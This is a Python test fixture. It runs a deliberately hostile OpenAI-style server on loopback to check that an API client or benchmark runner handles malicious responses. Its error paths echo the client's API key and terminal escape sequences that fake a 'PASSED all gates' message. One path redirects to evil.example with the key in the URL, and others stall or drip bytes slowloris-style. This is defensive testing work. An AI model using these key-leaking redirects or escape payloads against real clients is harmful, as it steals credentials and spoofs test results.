"""A hostile OpenAI-style server on loopback: it echoes the client's ``Authorization`` header (the
API key) and terminal escape sequences back through every error path the ``openai`` client has.

What a POST gets depends on the prompt's first word (or the request's shape):

* the dialect probe (prompt ``Hello`` with ``ignore_eos``): HTTP 400 naming ``ignore_eos``, the key
  and :data:`ESCAPES`; without ``ignore_eos`` one valid chunk; the token-id probe: HTTP 400
  ``prompt must be a string`` with the key;
* ``Warm-up ...`` (the runner's warm-up prompts), ``stream_error``: a stream error event;
* ``no_data``: an SSE event without ``data:``; ``bad_json``: invalid JSON in the stream;
* ``http_error``: HTTP 400 with the issue's escapes (:data:`ESCAPES`) and the key; ``issue``: the
  issue's exact body (:data:`ISSUE_BODY`; ``issue_probe``: the dialect probe gets it too);
* ``transport``: a chunk size line that is the key (a framing error);
* ``redirect``: HTTP 302 to another host, the key in the ``Location``;
* ``usage=N``: four chunks of text ``hi`` whose usage says ``N`` output tokens (``N`` as written
  into the JSON: ``1e12``, ``1e30``, ``1e308``, ``NaN``); ``usage+N``: cumulative usage that grows by
  ``N`` a chunk (``continuous_usage_stats`` as vLLM sends it);
* ``hang``: reads the request and never answers (``hang_probe``: the probe too); ``slow``: the head,
  then the body one byte every ``slow_s`` (``slow_probe``: the probe too).

``GET /version`` answers a version string carrying the key and escapes; ``GET /health`` 200.
"""

from __future__ import annotations

import json
import re
import socket
import threading
import time

ESCAPES = "\u001b[2J\u001b[H\u001b]0;pwned\u0007\u001b[32mPASSED all gates\u001b[0m\rX"
ISSUE_BODY = json.dumps({"error": ESCAPES})  # the issue's HTTP 400 body, JSON-escaped as sent


def _sse(*events: bytes) -> bytes:
    return b"".join(events)


def _ok_chunk() -> bytes:
    return b'data: {"choices":[{"text":"hi","finish_reason":"length"}],"usage":{"completion_tokens":1,"prompt_tokens":1}}\n\n' \
        b"data: [DONE]\n\n"


def _usage_stream(n: str, cumulative: bool) -> bytes:
    """Four chunks of ``hi``: usage ``n`` (JSON number text) in a last usage-only chunk, or, cumulative,
    ``k x n`` in chunk k (``n`` of the form ``1eX``: ``keX``)."""
    out = []
    for k in range(1, 5):
        fin = '"length"' if k == 4 else "null"
        usage = f',"usage":{{"prompt_tokens":1,"completion_tokens":{k}{n[1:]}}}' if cumulative else ""
        out.append(f'data: {{"choices":[{{"text":"hi","finish_reason":{fin}}}]{usage}}}\n\n'.encode())
    if not cumulative:
        out.append(f'data: {{"choices":[],"usage":{{"prompt_tokens":1,"completion_tokens":{n}}}}}\n\n'.encode())
    return b"".join(out) + b"data: [DONE]\n\n"


class HostileServer:
    """Threaded raw-socket server; ``base_url``; ``close()``. ``hang_probe``: the dialect probe
    hangs too (a server that answers readiness but never completes)."""

    def __init__(self, hang_probe: bool = False, slow_s: float = 5.0, issue_probe: bool = False,
                 slow_probe: bool = False) -> None:
        self.hang_probe, self.slow_s, self.issue_probe, self.slow_probe = hang_probe, slow_s, issue_probe, slow_probe
        self.sock = socket.socket()
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(64)
        self.port = self.sock.getsockname()[1]
        self.base_url = f"http://127.0.0.1:{self.port}"
        self.posts: list[dict[str, object]] = []
        self._stop = threading.Event()
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            threading.Thread(target=self._conn, args=(conn,), daemon=True).start()

    def _conn(self, conn: socket.socket) -> None:
        with conn:
            try:
                self._one(conn)
            except OSError:
                pass

    def _one(self, conn: socket.socket) -> None:
        buf = b""
        while b"\r\n\r\n" not in buf:
            got = conn.recv(65536)
            if not got:
                return
            buf += got
        head, _, body = buf.partition(b"\r\n\r\n")
        m = re.search(rb"content-length:\s*(\d+)", head, re.I)
        need = int(m.group(1)) if m else 0
        while len(body) < need:
            got = conn.recv(65536)
            if not got:
                return
            body += got
        a = re.search(rb"\r\nauthorization:\s*([^\r\n]*)", head, re.I)
        auth = a.group(1).decode("latin-1") if a else "(no authorization header)"
        line = head.split(b"\r\n", 1)[0].decode("latin-1")
        if line.startswith("GET "):
            path = line.split(" ")[1]
            if path.endswith("/version"):
                return self._reply(conn, 200, json.dumps({"version": f"1.0 {auth} {ESCAPES}"}).encode())
            if path.endswith("/metrics"):
                return self._reply(conn, 404, f"no metrics for {auth} {ESCAPES}".encode())
            return self._reply(conn, 200, b"{}")
        req = json.loads(body or b"{}")
        self.posts.append(req)
        prompt = req.get("prompt", "")
        if "messages" in req:
            prompt = req["messages"][0]["content"]
        self._post(conn, req, prompt if isinstance(prompt, str) else [], auth)

    def _post(self, conn: socket.socket, req: dict[str, object], prompt: object, auth: str) -> None:
        word = prompt.split(" ", 1)[0] if isinstance(prompt, str) else "ids"
        if word == "Hello" or word == "ids":
            if self.hang_probe:
                return self._hang(conn)
            if self.slow_probe:
                return self._slow(conn)
            if word == "ids":
                return self._reply(conn, 400, json.dumps({"error": f"prompt must be a string ({auth})"}).encode())
            if "ignore_eos" in req and self.issue_probe:
                return self._reply(conn, 400, ISSUE_BODY.encode())
            if "ignore_eos" in req:
                msg = f"Unrecognized request argument supplied: ignore_eos (you sent Authorization: {auth}) {ESCAPES}"
                return self._reply(conn, 400, json.dumps({"error": {"message": msg}}).encode())
            return self._reply(conn, 200, _ok_chunk(), sse=True)
        if word in ("Warm-up", "stream_error"):
            ev = json.dumps({"error": {"message": f"internal error for {auth} {ESCAPES}"}}).encode()
            return self._reply(conn, 200, _sse(b"data: " + ev + b"\n\n"), sse=True)
        if word == "no_data":
            return self._reply(conn, 200, f"event: oops\nfoo: {auth} {ESCAPES}\n\n".encode(), sse=True)
        if word == "bad_json":
            return self._reply(conn, 200, f"data: {{not json {auth} {ESCAPES}\n\n".encode(), sse=True)
        if word == "issue":
            return self._reply(conn, 400, ISSUE_BODY.encode())
        if word == "http_error":
            return self._reply(conn, 400, json.dumps({"error": f"{ESCAPES} {auth}"}).encode())
        if word == "transport":
            conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nTransfer-Encoding: chunked\r\n\r\n"
                         + auth.encode() + b"\r\nxx\r\n0\r\n\r\n")
            return None
        if word == "redirect":
            loc = f"http://evil.example/steal?k={auth.replace(' ', '+')}&x=\x1b[2J"
            return self._reply(conn, 302, b"moved", extra=f"Location: {loc}\r\n".encode("latin-1"))
        if word.startswith(("usage=", "usage+")):
            return self._reply(conn, 200, _usage_stream(word[6:], cumulative=word[5] == "+"), sse=True)
        if word == "hang":
            return self._hang(conn)
        if word == "slow":
            return self._slow(conn)
        return self._reply(conn, 200, _ok_chunk(), sse=True)

    def _hang(self, conn: socket.socket) -> None:
        self._stop.wait(3600)

    def _slow(self, conn: socket.socket) -> None:
        """Slowloris: the head at once, then the body one byte every ``slow_s``."""
        conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nConnection: close\r\n\r\n")
        for b in _ok_chunk():
            conn.sendall(bytes([b]))
            if self._stop.wait(self.slow_s):
                return

    def _reply(self, conn: socket.socket, status: int, payload: bytes, sse: bool = False, extra: bytes = b"") -> None:
        ctype = b"text/event-stream" if sse else b"application/json"
        conn.sendall(b"HTTP/1.1 %d X\r\nContent-Type: %s\r\nConnection: close\r\n%sContent-Length: %d\r\n\r\n"
                     % (status, ctype, extra, len(payload)) + payload)

    def close(self) -> None:
        self._stop.set()
        self.sock.close()
        time.sleep(0)
